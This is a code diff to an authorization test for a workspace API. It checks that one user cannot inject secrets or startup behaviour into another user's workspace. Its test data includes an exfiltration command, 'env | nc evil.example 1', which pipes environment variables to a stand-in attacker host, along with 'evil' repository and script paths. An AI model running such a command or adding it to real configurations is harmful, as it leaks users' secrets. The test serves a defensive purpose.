@@ -185,7 +185,16 @@ async def test_nobody_else_has_secrets_handed_to_what_he_would_run(
 ) -> None:
     made = await add_workspace(running.parts.store, ben, source=GitSource(URL))
     path = f"/api/v1/workspaces/{made.id}"
-    for change in ({"wanted_secrets": [{"key": "MINE"}]}, {"on_startup": "env | nc evil.example 1"}):
+    for change in (
+        {"wanted_secrets": [{"key": "MINE"}]},
+        {"on_startup": "env | nc evil.example 1"},
+        {"dotfiles": {"repository": "https://git.example/evil"}},
+        {"devcontainer": "evil/devcontainer.json"},
+        {"ref": "evil"},
+    ):
         assert (await client.patch(path, json=change)).json()["kind"] == "not_allowed"  # the installation's owner
         assert (await bens.patch(path, json=change)).status_code == 200
+    own = {"value": "/tmp/evil.sh"}
+    assert (await client.put(f"{path}/secrets/PATHS", json=own)).json()["kind"] == "not_allowed"
+    assert (await bens.put(f"{path}/secrets/PATHS", json=own)).is_success
     assert (await client.patch(path, json={"labels": {"seen": "yes"}})).status_code == 200
